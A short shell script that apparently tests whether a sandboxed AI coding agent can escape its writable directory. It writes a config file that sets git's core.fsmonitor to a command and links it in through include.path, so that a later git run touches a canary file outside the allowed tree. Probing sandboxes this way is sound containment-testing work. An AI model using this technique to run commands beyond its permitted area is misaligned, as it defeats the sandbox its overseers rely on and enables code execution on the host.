#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: include.path from repo config to a worktree file
printf '[core]\n\tfsmonitor = "%s; false"\n' "$SC" > inc.cfg; git config include.path "$PWD/inc.cfg"
